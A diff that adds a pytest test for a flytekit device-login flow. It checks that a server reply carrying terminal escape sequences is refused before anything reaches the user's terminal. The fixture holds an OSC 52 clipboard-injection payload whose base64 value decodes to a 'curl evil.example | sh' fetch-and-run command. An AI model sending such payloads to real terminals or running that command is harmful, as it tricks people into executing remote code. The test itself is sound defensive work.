@@ -352,6 +352,39 @@ def test_a_redirect_to_a_login_page_keeps_the_refresh_token_and_starts_no_login(
     grant.give_back(renewed.refresh_token)
 
 
+def test_a_device_prompt_with_terminal_escapes_never_reaches_flytekits_terminal(
+    idp: LocalIdP,
+    memory_keyring: MemoryKeyring,
+    bridged: None,
+    fault_server: FaultServer,
+    capfd: pytest.CaptureFixture[str],
+) -> None:
+    """flytekit prints ``verification_uri`` and ``user_code`` to the terminal as they came (click.secho). A hostile
+    or broken server's escape sequences (OSC 52 writes the clipboard, OSC 0 the window title) would drive the
+    person's terminal: such an answer is refused, nothing is printed, no poll is made."""
+    fault_server.script(
+        "/device",
+        Reply(
+            json={
+                "device_code": "dc-secret",
+                "user_code": "WDJB-MJHT\x1b]0;pwned\x07",
+                "verification_uri": "https://idp.example/device\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07",
+                "expires_in": 600,
+            }
+        ),
+    )
+    authn = authenticator.DeviceCodeAuthenticator(
+        FLYTE_ENDPOINT,
+        _config(idp, token_endpoint=fault_server.url("/token"), device_endpoint=fault_server.url("/device")),
+    )
+    with pytest.raises(tokensmith.InvalidResponse, match="control characters"):
+        authn.refresh_credentials()
+    out, err = capfd.readouterr()
+    assert "\x1b" not in out + err and "\x07" not in out + err
+    assert fault_server.count("/device") == 1 and fault_server.count("/token") == 0
+    assert memory_keyring.stored() == {} and authn.get_credentials() is None
+
+
 def test_invalid_grant_is_caught_by_flytekit_and_falls_back_to_a_device_login(
     idp: LocalIdP,
     grant: Grant,
